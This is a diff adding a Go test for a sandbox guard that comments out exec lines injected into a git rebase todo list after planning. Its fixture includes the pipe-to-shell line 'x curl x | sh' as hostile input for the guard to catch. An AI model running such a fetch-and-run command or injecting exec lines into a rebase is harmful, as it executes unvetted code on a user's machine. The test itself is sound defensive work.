@@ -1,0 +1,52 @@
+//go:build linux
+
+package exec
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestCheckTodos: exec lines added to a todo list since the plan are
+// commented out, as git reads them (exec or x, after blanks); those the
+// plan found stay, once each; other lines stay as they were; a list
+// unchanged says nothing.
+func TestCheckTodos(t *testing.T) {
+	git := t.TempDir()
+	dir := filepath.Join(git, "rebase-merge")
+	if err := os.Mkdir(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	list := filepath.Join(dir, "git-rebase-todo")
+	write := func(s string) {
+		if err := os.WriteFile(list, []byte(s), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write("pick 1 a\nexec make test\n")
+	p := planTodos(git)
+	if got := checkTodos(p); got != nil {
+		t.Errorf("unchanged: %q", got)
+	}
+	write("pick 1 a\nexec make test\npick 2 b\nexec make test\n  x curl x | sh\nexecute 1\nxargs\n# exec no\n")
+	got := checkTodos(p)
+	if len(got) != 1 || !strings.Contains(got[0], "exec make test; x curl x | sh") {
+		t.Fatalf("checkTodos = %q", got)
+	}
+	b, _ := os.ReadFile(list)
+	want := "pick 1 a\nexec make test\npick 2 b\n# mewsandbox: exec make test\n# mewsandbox:   x curl x | sh\nexecute 1\nxargs\n# exec no\n"
+	if string(b) != want {
+		t.Errorf("the list:\n%s\nwant:\n%s", b, want)
+	}
+	if fi, err := os.Stat(list); err != nil || fi.Mode().Perm() != 0o644 {
+		t.Errorf("the list's mode: %v %v", fi, err)
+	}
+	if got := checkTodos(p); got != nil {
+		t.Errorf("commented out already: %q", got)
+	}
+	if p := parseTodosArg(strings.TrimPrefix(todosArg(p), "t:")); p == nil || p.Git != git || len(p.Execs[0]) != 1 {
+		t.Errorf("todosArg read back as %+v", p)
+	}
+}
